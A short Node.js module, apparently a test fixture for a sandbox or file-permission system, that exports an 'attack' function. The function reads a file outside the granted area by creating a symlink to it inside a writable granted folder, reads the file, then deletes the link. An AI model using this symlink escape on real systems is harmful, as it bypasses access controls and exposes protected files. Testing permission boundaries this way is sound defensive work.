// Reads a file that was not granted through a link of its own in a granted folder.
const fs = require('fs');
exports.attack = (to) => {
  const link = `${to.writable}/link${to.part}`;
  fs.symlinkSync(to.secret, link);
  try {
    return fs.readFileSync(link, 'utf8');
  } finally {
    fs.unlinkSync(link);
  }
};
